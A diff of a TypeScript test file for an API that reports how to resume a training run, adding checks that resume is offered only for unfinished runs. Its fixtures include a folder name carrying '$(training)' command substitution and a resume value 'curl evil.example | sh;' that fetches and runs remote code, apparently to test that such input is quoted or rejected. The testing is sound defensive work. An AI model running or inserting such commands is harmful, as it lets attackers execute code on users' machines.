@@ -127,16 +127,26 @@ describe('GET /api/runs/:id', () => {
     expect(() => readFileSync(join(folder, 'ran'))).toThrow();
   });
 
+  it('offers to resume a run until it is finished', async () => {
+    cpSync(run('llm'), run('open'), { recursive: true });
+    const path = join(run('open'), 'run.json');
+    const text = readFileSync(path, 'utf8');
+    writeFileSync(path, JSON.stringify({ ...JSON.parse(text), status: 'running' }));
+    expect((await page('open')).resume).toBe(`r2po run ${run('open')} --resume`);
+    writeFileSync(path, text);
+    expect((await page('open')).resume).toBeNull();
+  });
+
   it('says how a training is resumed by a command of r2po alone, for a folder of any name', async () => {
-    const training = (name: string, resume: string) => {
+    const training = (name: string, resume: string, status = 'finished') => {
       const imported = { format: 'sb3', layout: 'r2po-baseline', source: 's', digest: 'd' };
       cpSync(run('llm'), run(name), { recursive: true });
       const path = join(run(name), 'run.json');
       const manifest = JSON.parse(readFileSync(path, 'utf8'));
       const made = { ...imported, training: { rewards: 'means', evaluated: true, resume } };
-      writeFileSync(path, JSON.stringify({ ...manifest, imported: made }));
+      writeFileSync(path, JSON.stringify({ ...manifest, status, imported: made }));
     };
-    training('a $(training)', 'r2po baseline');
+    training('a $(training)', 'r2po baseline', 'stopped');
     expect((await page('a $(training)')).resume).toBe(`r2po baseline '${run('a $(training)')}' --resume`);
     training('foreign', 'curl evil.example | sh;');
     const response = await view.get('/api/runs/foreign');
